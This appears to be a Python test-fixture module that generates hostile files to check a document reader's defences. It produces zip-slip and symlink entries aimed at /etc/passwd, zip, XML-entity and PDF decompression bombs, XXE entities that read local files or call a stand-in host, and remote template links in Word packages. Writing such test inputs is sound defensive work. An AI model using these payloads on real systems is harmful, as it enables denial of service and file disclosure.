"""What is small on the disk and large when opened, and what leads out of where it is opened."""

from __future__ import annotations

import io
import stat
import struct
import warnings
import zipfile
import zlib

from tests.hostile.families import HOST, Family, Files, regulation, text
from tests.read import pdf_files
from tests.read.word_files import docx, numbered, numbering, packed, paragraph, row, table

GOOD = text(regulation(number="700/2031/QĐ-UBND"))


def archive(entries: list[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A .zip of these entries, of which several may have one name."""
    data = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(data, "w", method) as made:
        warnings.simplefilter("ignore")
        for name, content in entries:
            made.writestr(name, content)
    return data.getvalue()


def leading_out(size: int) -> Files:
    """Names that climb, are absolute, or belong to another system; links; names that occur ``size`` times."""
    link = zipfile.ZipInfo("lien-ket.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    names = [
        "../len.txt",
        "a/../../len.txt",
        "/etc/passwd",
        "C:\\x.txt",
        "..\\x.txt",
        "\\\\may\\x.txt",
        "a\x00b",
    ]
    entries: list[tuple[str | zipfile.ZipInfo, bytes]] = [(name, GOOD) for name in names]
    entries += [(link, b"/etc/passwd"), *[("trung.txt", GOOD)] * min(size, 20)]
    return {"ra-ngoai.zip": archive(entries)}


def growing(size: int) -> Files:
    """A member of ``size`` million zeros, one in bzip2 and one in LZMA, and one that lies about its size."""
    zeros = bytes(size * 1_000_000)
    honest = archive([("to.txt", zeros)])
    lying = bytearray(honest)
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = lying.find(mark)
        lying[at + place : at + place + 4] = struct.pack("<I", 1000)
    return {
        "phinh.zip": honest,
        "phinh-bzip2.zip": archive([("to.txt", zeros)], zipfile.ZIP_BZIP2),
        "phinh-lzma.zip": archive([("to.txt", zeros)], zipfile.ZIP_LZMA),
        "noi-doi.zip": bytes(lying),
    }


def many(size: int) -> Files:
    """``size`` thousand entries; a directory that promises more than there are."""
    entries: list[tuple[str | zipfile.ZipInfo, bytes]] = [(f"{n}.json", b"") for n in range(size * 1000)]
    lying = bytearray(archive([("a.txt", GOOD)]))
    at = lying.find(b"PK\x05\x06")
    lying[at + 8 : at + 12] = struct.pack("<HH", 65535, 65535)
    return {"nhieu.zip": archive(entries), "hua-nhieu.zip": bytes(lying)}


def overlapping(size: int) -> Files:
    """``size`` entries of the directory that all are the same packed bytes."""
    inner = archive([("0.txt", bytes(1_000_000))])
    start, end = inner.find(b"PK\x01\x02"), inner.find(b"PK\x05\x06")
    entry = inner[start:end]
    directory = b"".join(entry.replace(b"0.txt", f"{n % 10}.txt".encode()) for n in range(size))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, size, size, len(directory), start, 0)
    return {"chong-len.zip": inner[:start] + directory + tail}


def nested(size: int) -> Files:
    """Archives in archives, ``size`` deep, and one that is wide at each of three levels."""
    deep = archive([("day.txt", GOOD)])
    for _ in range(size):
        deep = archive([("trong.zip", deep)])
    wide = archive([(f"{n}.txt", b"a" * 1000) for n in range(10)])
    for _ in range(3):
        wide = archive([(f"{n}.zip", wide) for n in range(3)])
    return {"long.zip": deep, "long-rong.zip": wide}


def broken(size: int) -> Files:
    """A good archive cut off, turned over, and with another member's bytes in its middle."""
    whole = archive([(f"{n}.txt", GOOD) for n in range(3)])
    middle = len(whole) // 2
    return {
        "cut.zip": whole[:middle],
        "nguoc.zip": b"PK\x03\x04" + whole[4:][::-1],
        "hong.zip": whole[: middle - 50] + bytes(100) + whole[middle + 50 :],
        "rac.zip": b"PK\x03\x04" + bytes(size),
    }


def word_bombs(size: int) -> Files:
    """Word files with entities, external relations, huge parts, and deep tables, numberings and runs."""
    doctype = "<!DOCTYPE x [" + '<!ENTITY a0 "aaaaaaaaaa">'
    doctype += "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
    external = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "{HOST}/">]>'
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="a" Type="x/officeDocument" Target="../../../../etc/passwd"/>'
        f'<Relationship Id="b" Type="x/attachedTemplate" TargetMode="External" Target="{HOST}/a.dotm"/>'
        "</Relationships>"
    )
    deep = table(row("a"))
    for _ in range(size):
        deep = table(row(f"<w:tc>{deep}<w:p/></w:tc>"))
    levels = "".join(f'<w:lvl w:ilvl="{n}"><w:lvlText w:val="{"%1." * 50}"/></w:lvl>' for n in range(size))
    chain = "".join(
        f'<w:style w:styleId="s{n}" w:type="paragraph"><w:basedOn w:val="s{(n + 1) % size}"/></w:style>'
        for n in range(size)
    )
    return {
        "thuc-the.docx": docx(paragraph("&a9;"), prolog=doctype),
        "thuc-the-ngoai.docx": docx(paragraph("&e;&f;"), prolog=external),
        "quan-he.docx": packed({"[Content_Types].xml": "<Types/>", "_rels/.rels": relations, "word/a": "x"}),
        "to.docx": docx(paragraph("a" * (size * 1000))),
        "nhieu-doan.docx": docx(paragraph("Điều 1. Tên") * size),
        "bang-sau.docx": docx(deep),
        "sau.docx": docx("<w:p>" * size + "</w:p>" * size),
        "so-dem.docx": docx(numbered("a", 8) * size, numbering=numbering(levels)),
        "kieu-vong.docx": docx(paragraph("a", '<w:pStyle w:val="s0"/>'), styles=chain),
        "rong-cot.docx": docx(table(row('<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr></w:tc>'))),
    }


def page_bombs(size: int) -> Files:
    """HTML and SVG with entities, depth, spans, and attributes in great number."""
    entities = '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    tags = ("div", "b", "table><tr><td", "ol><li", "blockquote", "svg", "font", "p", "select", "a href=x")
    files = {
        f"sau-{n}.html": ("<!doctype html><html><body>" + f"<{tag}>" * size + "Điều 1. a").encode()
        for n, tag in enumerate(tags)
    }
    attributes = " ".join(f"a{n}=x" for n in range(size))
    return files | {
        "thuc-the.html": f"{entities}<html><body><p>{'&b;' * size}</p>".encode(),
        "thuc-the.svg": f'<?xml version="1.0"?>{entities}<svg><text>{"&b;" * size}</text></svg>'.encode(),
        "o-to.html": (
            "<html><body><table border=1>" + "<tr><td rowspan=65000 colspan=1000>a" * size
        ).encode(),
        "thuoc-tinh.html": f"<html><body><p {attributes}>Điều 1. a</p>".encode(),
        "khong-dong.html": ("<html><body>" + "<!-- " * size + '<a href="' * size).encode(),
    }


def pdf_bombs(size: int) -> Files:
    """PDF files with huge page counts, packed zeros, circles among their objects, passwords and rubbish."""
    good = pdf_files.pdf(pdf_files.lines(["QUYẾT ĐỊNH", "Điều 1. Phạm vi"], 100, 700))
    zeros = zlib.compress(bytes(size * 100_000))
    twice = zlib.compress(zeros)
    bomb = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(twice), twice)
    area, circle = "/MediaBox[0 0 600 800]", "/XObject<</A 4 0 R>>"
    page = f"{area}/Resources<<>>"
    crowded = pdf_files.text("Điều 1. a ", 100, 700) * size
    ruled = "".join(pdf_files.rule(0, n, 600, n) + pdf_files.rule(n, 0, n, 800) for n in range(size))
    return {
        "dem-trang.pdf": _pdf(
            "<</Type/Pages/Count 2000000000/Kids[3 0 R]>>", f"<</Type/Page/Parent 2 0 R{page}>>"
        ),
        "vong.pdf": _pdf("<</Type/Pages/Count 1/Kids[2 0 R 2 0 R]/Parent 2 0 R>>"),
        "vong-noi-dung.pdf": _pdf(
            "<</Type/Pages/Count 1/Kids[3 0 R]>>",
            f"<</Type/Page/Parent 2 0 R{area}/Contents 4 0 R/Resources<<{circle}>>>>",
            f"<</Subtype/Form/BBox[0 0 9 9]/Resources<<{circle}>>/Length 5>>stream\n/A Do\nendstream",
        ),
        "phinh.pdf": _pdf(
            "<</Type/Pages/Count 1/Kids[3 0 R]>>", f"<</Type/Page/Parent 2 0 R{page}/Contents 4 0 R>>", bomb
        ),
        "nhieu-trang.pdf": pdf_files.pdf(*[pdf_files.text("Điều 1.", 100, 700)] * size),
        "day-chu.pdf": pdf_files.pdf(crowded),
        "day-ke.pdf": pdf_files.pdf(ruled),
        "sau.pdf": _pdf("<</Type/Pages/Count 1/Kids" + "[" * size + "]" * size + ">>"),
        "khoa.pdf": good.replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -4>>" % (b"a" * 32, b"b" * 32),
        ),
        "cut.pdf": good[: len(good) // 2],
        "rac.pdf": b"%PDF-1.7\n" + bytes(range(256)) * size,
    }


def _pdf(*objects: str | bytes) -> bytes:
    """A PDF of the catalogue and these objects, numbered from 2."""
    data, offsets = b"%PDF-1.7\n", []
    for number, item in enumerate(("<</Type/Catalog/Pages 2 0 R>>", *objects), 1):
        offsets.append(len(data))
        body = item if isinstance(item, bytes) else item.encode()
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(offsets) + 1
    trailer = b"xref\n0 %d\n0000000000 65535 f \n%strailer <</Size %d/Root 1 0 R>>\n" % (size, table, size)
    return data + trailer + b"startxref\n%d\n%%%%EOF" % len(data)


FAMILIES = (
    Family("names that lead out", "unpacking of archives", leading_out),
    Family("archives that grow", "memory", growing, 30),
    Family("archives of many", "the directory of an archive, which is read before any limit", many, 6),
    Family("archives that overlap", "memory, time", overlapping, 4000),
    Family("archives in archives", "depth", nested, 20),
    Family("broken archives", "the reader of archives", broken),
    Family("Word bombs", "entities, external parts, depth, numbering", word_bombs),
    Family("page bombs", "entities, depth, spans", page_bombs, 2000),
    Family("PDF bombs", "page counts, packed zeros, circles", pdf_bombs),
)
